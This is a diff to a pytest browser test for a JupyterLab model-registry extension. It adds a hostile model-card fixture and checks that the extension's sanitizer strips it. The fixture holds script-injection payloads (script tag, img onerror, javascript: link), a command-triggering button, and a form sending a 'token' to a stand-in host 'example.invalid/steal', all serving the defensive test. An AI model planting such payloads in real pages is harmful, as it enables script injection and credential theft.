@@ -24,12 +24,38 @@ import pytest
 
 pytestmark = pytest.mark.slow
 
-SIDEBAR = "#maas-lab\\:models"
+SIDEBAR = '[id="maas-lab:models"]'
 ROWS = f"{SIDEBAR} .maas-row"
 DETAIL = f"{SIDEBAR} .maas-detail"
 SAME_REFS = """([selector, want]) => {
   const got = [...document.querySelectorAll(selector)].map(r => r.dataset.ref);
   return JSON.stringify(got) === JSON.stringify(want);
+}"""
+# A card from someone's bundle that tries what JupyterLab's own sanitizer lets through: a
+# button that runs a Lab command when clicked, a form posing as a dialog, media and styles
+# that fetch from elsewhere, plus the classics the sanitizer removes anyway.
+HOSTILE_CARD = """# Forecaster
+
+Plain **text** stays.
+
+<button data-commandlinker-command="maas-lab:stop-server" data-commandlinker-args='{"name": "x"}'>
+Click me</button>
+<form action="https://example.invalid/steal"><input name="token" placeholder="token"></form>
+<img src="https://example.invalid/pixel.png" alt="tracker">
+<video poster="https://example.invalid/poster.png" src="https://example.invalid/v.mp4"></video>
+<p style="background-image: url(https://example.invalid/bg.png)">styled</p>
+<img src="x" onerror="window.__maasOwned = 1">
+<a href="javascript:window.__maasOwned = 2">js link</a>
+<script>window.__maasOwned = 3</script>
+"""
+CARD_LEAKS = """(selector) => {
+  const card = document.querySelector(selector);
+  if (!card) return 'no card';
+  const bad = card.querySelectorAll(
+    'button, form, input, video, audio, script, iframe, [style], [onerror], ' +
+    '[data-commandlinker-command], a[href^="javascript:"]');
+  const remote = [...card.querySelectorAll('img')].filter(i => !i.src.startsWith('data:'));
+  return [...bad, ...remote].map(e => e.outerHTML.slice(0, 120));
 }"""
 PALETTE_ITEMS = """() => {
   const items = [...document.querySelectorAll(
@@ -67,7 +93,9 @@ def home(tmp_path_factory):
     try:
         api.register("tiny", task="classification", card=card, root=home, **common)
         api.export("tiny@1", "onnx", root=home)
-        api.register("other", description="about forecasting", root=home, **common)
+        hostile = folder / "other.md"
+        hostile.write_text(HOSTILE_CARD)
+        api.register("other", description="about forecasting", card=hostile, root=home, **common)
         yield home
     finally:
         api.close_all()
@@ -168,6 +196,15 @@ def test_sidebar_search_detail_insert_run_and_live_refresh(lab, home):
     wait_text(nb, DETAIL, "Not served", timeout=120)
     assert len(api.status(root=home)) == 0
 
+    # A server started elsewhere (another process, as a notebook's %maas serve) shows up in
+    # the open detail, though it changes no registry revision; and goes when it stops.
+    handle = api.serve("tiny@3", port=0, root=home)
+    try:
+        nb.wait(f'{DETAIL} .maas-server-row[data-server="{handle.name}"]', timeout=30)
+    finally:
+        api.stop(handle.name, root=home)
+    wait_text(nb, DETAIL, "Not served", timeout=30)
+
     assert console_errors(nb) == [], console_errors(nb)
 
 
@@ -178,6 +215,12 @@ def test_a_version_deleted_behind_the_open_detail_is_said_to_be_gone(lab, home):
     nb.wait(f'{ROWS}[data-ref="other@1"]')
     nb.click(f'{ROWS}[data-ref="other@1"]')
     wait_text(nb, DETAIL, "about forecasting")
+    wait_text(nb, f"{DETAIL} .maas-card", "Plain text stays.")
+    assert nb.js(CARD_LEAKS, f"{DETAIL} .maas-card") == []
+    card = " ".join(nb.texts(f"{DETAIL} .maas-card"))
+    assert "[tracker: https://example.invalid/pixel.png]" in card, card  # said, not fetched
+    assert nb.js("async () => window.__maasOwned === undefined")
+    nb.screenshot("lab-hostile-card")
     with sqlite3.connect(home / "registry.db") as db:  # another tool, a restored backup
         (vid,) = db.execute(
             "select v.id from versions v join models m on m.id = v.model_id "
